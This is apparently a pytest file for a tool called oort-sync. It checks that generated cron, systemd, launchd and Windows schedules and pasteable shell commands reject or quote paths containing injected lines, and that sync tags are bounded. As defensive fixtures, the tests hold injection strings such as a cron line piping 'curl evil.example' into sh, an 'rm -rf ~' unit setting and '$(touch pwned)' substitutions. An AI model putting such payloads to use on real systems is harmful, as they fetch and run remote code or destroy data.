"""Text oort-sync generates for other programs: the schedules (a crontab, systemd units, a
launchd agent, a Windows task) never take a line of their own from a path, and shell
commands meant to be pasted never run a `$(...)` of a path; tags sent to the server are
short one-line labels, bounded in size and number."""

from __future__ import annotations

import os
import plistlib
import subprocess
import sys
from pathlib import Path

import pytest

from oort_lib.errors import ConfigError
from oort_lib.state import config as cfg
from oort_lib.views import launchagent, schedule, scheduled_task

FORMATS = ("--cron", "--systemd", "--launchd", "--windows")
# A line break (a crontab line or a unit setting of its own), CR, ESC, NUL.
INJECTIONS = ["/srv/x\n* * * * * curl evil.example | sh\n",
              "/srv/x\nExecStartPre=/bin/rm -rf ~",
              "/srv/x\r\nPATH=/tmp/evil", "/srv/\x1b]0;x\x07", "/srv/a\x00b", "/srv/a\u2028b"]


@pytest.mark.parametrize("form", FORMATS)
@pytest.mark.parametrize("home_dir", INJECTIONS, ids=range(len(INJECTIONS)))
def test_control_characters_in_home_are_refused_in_every_schedule(cli, home, form, home_dir):
    result = cli("schedule", form, "--home", home_dir)
    assert result.code == 2, (result.code, result.out)
    assert "--home" in result.err and ("control character" in result.err or "NUL" in result.err)
    assert result.out == "" and "Traceback" not in result.err


@pytest.mark.parametrize("form", ["--cron", "--systemd", "--launchd"])
def test_control_characters_in_the_installation_path_are_refused(cli, home, tmp_path,
                                                                 monkeypatch, form):
    prefix = tmp_path / "venv\n* * * * * sh -c evil"
    (prefix / "bin").mkdir(parents=True)
    entry = prefix / "bin" / "oort-sync"
    entry.write_text("#!/bin/sh\n")
    entry.chmod(0o755)
    monkeypatch.setattr(sys, "prefix", str(prefix))
    result = cli("schedule", form)
    assert result.code == 2 and "installation" in result.err, result.err
    assert result.out == ""


def test_control_characters_in_home_variable_are_refused_for_cron(monkeypatch):
    monkeypatch.setenv("HOME", "/home/x\n* * * * * evil")
    with pytest.raises(ConfigError, match=r"\$HOME"):
        schedule.cron_recipe(None)


def test_control_characters_in_the_log_folder_are_refused_for_launchd(tmp_path):
    with pytest.raises(ConfigError, match="log folder"):
        launchagent.recipe(None, tmp_path / "logs\nevil")
    with pytest.raises(ConfigError, match="pythonw"):
        scheduled_task.task_xml(None, "C:\\Python\\pythonw\r\n.exe")


def test_launchd_commands_quote_the_paths_for_the_shell(tmp_path):
    """The commands in the agent's comment are pasted into a shell: a `$(...)`, a backquote
    or a quote in the log folder stays text."""
    logs = tmp_path / "logs $(touch pwned) `touch pwned2` 'q' \"d\""
    text = launchagent.recipe(None, logs)
    assert plistlib.loads(text.encode())["StandardOutPath"] == str(logs / "launchd.log")
    mkdir = next(line.strip() for line in text.splitlines()
                 if line.strip().startswith("mkdir -p"))
    done = subprocess.run(["/bin/sh", "-c", mkdir], cwd=tmp_path, capture_output=True,
                          text=True, timeout=30)
    assert done.returncode == 0, done.stderr
    assert logs.is_dir()
    assert not (tmp_path / "pwned").exists() and not (tmp_path / "pwned2").exists()
    # The one command substitution of the instructions (the user's uid) is quoted too.
    assert text.count("$(id -u)") == text.count('"gui/$(id -u)') == 3


def test_odd_but_legal_paths_are_quoted_per_format(tmp_path):
    odd = str(tmp_path / "a b;c'd\"e$f%g\\h`i")
    cron = schedule.cron_recipe(odd)
    job = next(line for line in cron.splitlines() if line.startswith("*/"))
    # sh sees one word: cron turns \% back into % first.
    words = subprocess.run(["/bin/sh", "-c", "for a in " + job.split(" ", 5)[5]
                            .split(" || ")[0].replace("\\%", "%") + '; do echo "$a"; done'],
                           capture_output=True, text=True, timeout=30).stdout.splitlines()
    assert words[-1] == f"--home={odd}"
    service = schedule.systemd_units(odd)[schedule.SERVICE]
    (exec_start,) = [line for line in service.splitlines() if line.startswith("ExecStart=")]
    assert "%%g" in exec_start and "$$f" in exec_start and '\\"e' in exec_start
    task = scheduled_task.task_xml(str(tmp_path / "a&b<c>"))
    assert "a&amp;b&lt;c&gt;" in task


# --- tags ------------------------------------------------------------------------------------


@pytest.mark.parametrize("raw, phrase", [
    ("night 1,bad\r\nX-Injected: 1", "control or invisible character"),
    ("a\tb", "control or invisible character"),
    ("\x1b[2Jclear", "control or invisible character"),
    ("rlo\u202egnp.exe", "control or invisible character"),
    ('say "a,b"', "double quote"),
    ("x" * 65, "at most 64 characters"),
    (",".join(f"t{n}" for n in range(21)), "at most 20"),
    (",".join(f"t{n}" for n in range(3000)), "at most 20"),
    ("y" * 5000, "at most 64 characters"),
])
def test_bad_tags_are_refused_with_a_clear_message(raw, phrase):
    with pytest.raises(ConfigError, match=phrase):
        cfg.parse_tags(raw)


def test_tags_within_bounds_are_kept():
    assert cfg.parse_tags("x" * 64) == ("x" * 64,)
    many = tuple(f"t{n}" for n in range(20))
    assert cfg.parse_tags(",".join(many)) == many
    assert cfg.parse_tags("M31's core, night 1 ,é") == ("M31's core", "night 1", "é")


def test_watch_refuses_bad_tags_before_asking_the_server(cli, home, tmp_path):
    folder = tmp_path / "d"
    folder.mkdir()
    result = cli("watch", folder, "--tags=a\nb", "-y")
    assert result.code == 2 and result.err.startswith("oort-sync: --tags: tag"), result.err
    assert "Traceback" not in result.err
    assert cfg.load_settings(home).folders == ()


def test_bad_tags_in_the_config_name_the_file_and_line(cli, home):
    home.config_dir.mkdir(parents=True, exist_ok=True)
    (home.config_dir / "config.ini").write_text(
        f"[oort-sync]\n\n[folder 1]\npath = {os.sep}data\ntags = {'x' * 70}\n")
    result = cli("status")
    assert result.code == 2
    assert f"{home.config_dir / 'config.ini'}, line 5" in result.err
    assert "at most 64 characters" in result.err


def test_contrib_and_generated_schedules_still_agree():
    """The quoting changed nothing for an ordinary path."""
    argv = schedule.command("/srv/oort/profile2")
    assert argv[-1] == "--home=/srv/oort/profile2"
    assert Path(argv[0]).is_absolute()
